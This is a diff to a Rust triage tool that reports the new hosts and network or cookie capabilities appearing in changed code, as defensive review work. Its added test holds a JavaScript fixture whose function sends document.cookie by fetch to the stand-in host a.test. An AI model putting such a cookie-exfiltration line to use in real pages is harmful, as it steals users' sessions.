@@ -1,6 +1,8 @@
 //! The facts in one line each, the most telling first. Facts, not a verdict: there is no score.
 
-use pinfold_triage::{Capability, Change, Diff, Fact, Findings, Group, Host, Loss, Novelty, SaidVersion};
+use pinfold_triage::{
+    Capability, Change, Diff, Fact, Findings, Group, Host, Loss, Novelty, SaidVersion, Together,
+};
 
 use super::super::words::counted;
 use super::Place;
@@ -109,14 +111,20 @@ impl Point {
 }
 
 pub(super) fn points(findings: &Findings, shown: &Shown) -> Vec<Point> {
-    telling(findings, shown, HOSTS)
+    let together = findings.together.iter().map(|together| of_together(together, shown));
+    together.chain(telling(findings, shown, HOSTS)).collect()
+}
+
+/// What one function newly does.
+fn of_together(together: &Together, shown: &Shown) -> Point {
+    let text = Text::of(&together.text()).to_string();
+    Point { weight: Weight::Heavy, place: Some(shown.place(together.line)), ..Point::plain(text) }
 }
 
 /// With so many hosts, the most telling ones.
 fn telling(findings: &Findings, shown: &Shown, named: usize) -> Vec<Point> {
-    let told: Vec<_> =
-        hosts(&findings.hosts).take(named).map(|host| (host, reaching(host, findings))).collect();
-    let mut points: Vec<_> = told.iter().map(|(host, fact)| of_host(host, *fact, shown)).collect();
+    let told: Vec<_> = hosts(&findings.hosts).take(named).collect();
+    let mut points: Vec<_> = told.iter().map(|host| of_host(host, shown)).collect();
     let more = findings.hosts.len().saturating_sub(named);
     if more > 0 && named >= HOSTS {
         points.push(Point::plain(format!("names {} more", counted(more as u64, "new host"))));
@@ -125,8 +133,7 @@ fn telling(findings: &Findings, shown: &Shown, named: usize) -> Vec<Point> {
     points.extend(findings.losses.iter().map(|loss| of_loss(loss, shown)));
     // Said beside its host, and there is no other place.
     let is_said = |fact: &Fact| {
-        fact.sites.len() == 1
-            && told.iter().any(|(_, said)| said.is_some_and(|said| said.capability == fact.capability))
+        fact.sites.len() == 1 && told.iter().any(|host| host.reached_by == Some(fact.capability))
     };
     let mut novel = of_novelty(findings, Novelty::New);
     novel.retain(|fact| !is_said(fact));
@@ -189,29 +196,21 @@ fn together(how: &str, facts: &[&Fact]) -> Option<Point> {
     (!names.is_empty()).then(|| Point::plain(format!("{how}: {}", names.join("; "))))
 }
 
-/// Those that hide and those that imitate first.
+/// Those that hide and those that imitate first, and then those that something goes to.
 fn hosts(hosts: &[Host]) -> impl Iterator<Item = &Host> {
     let mut sorted: Vec<&Host> = hosts.iter().collect();
-    sorted.sort_by_key(|host| (host.imitates.is_none(), !host.hidden));
+    sorted.sort_by_key(|host| (host.imitates.is_none(), !host.hidden, host.reached_by.is_none()));
     sorted.into_iter()
 }
 
-/// What is newly done with the network where a host is named.
-fn reaching<'a>(host: &Host, findings: &'a Findings) -> Option<&'a Fact> {
-    findings.facts.iter().find(|fact| {
-        fact.capability.group() == Group::Network
-            && fact.sites.iter().any(|site| Some(site.line) == host.line)
-    })
-}
-
-fn of_host(host: &Host, reaching: Option<&Fact>, shown: &Shown) -> Point {
-    let text = match reaching {
-        Some(fact) => format!("{}, where it names a new host:", fact.capability.text()),
+fn of_host(host: &Host, shown: &Shown) -> Point {
+    let text = match host.reached_by {
+        Some(capability) => format!("{}, where it names a new host:", capability.text()),
         None => "names a new host:".to_owned(),
     };
     let hidden = host.hidden.then(|| Text::of("hidden: not to be read in the code as it is"));
     let imitates = host.imitates.as_deref().map(|imitates| Text::of(&format!("looks like {imitates}")));
-    let is_heavy = host.hidden || host.imitates.is_some() || reaching.is_some();
+    let is_heavy = host.hidden || host.imitates.is_some() || host.reached_by.is_some();
     Point {
         weight: if is_heavy { Weight::Heavy } else { Weight::Plain },
         text,
@@ -287,6 +286,22 @@ mod tests {
         let points = points(&findings, &difference.shown(&findings.diff));
         assert_eq!(points[0].text, "sends or loads with fetch, at 2 more places than before");
         assert_eq!(points[0].place.as_ref().and_then(|place| place.link.as_deref()), Some("#n2"));
+    }
+
+    #[test]
+    fn what_one_function_does_stands_first_and_a_host_that_is_reached_is_heavy() {
+        let new =
+            "show(1); var to = 'https://a.test/';\nfunction send() { fetch(to, { body: document.cookie }) }";
+        let findings = compare(Some(b"show(1);"), new.as_bytes(), Limits::default(), &|_| None);
+        let difference = Difference::of(&findings);
+        let points = points(&findings, &difference.shown(&findings.diff));
+        assert_eq!(
+            points[0].text,
+            "one new function, `send` at lines 3–5, newly: reads or sets cookies; sends or loads with fetch, to a.test"
+        );
+        assert_eq!(points[0].place.as_ref().and_then(|place| place.link.as_deref()), Some("#n3"));
+        assert_eq!(points[1].text, "sends or loads with fetch, where it names a new host:");
+        assert!(points[..2].iter().all(|point| point.weight == Weight::Heavy));
     }
 
     #[test]
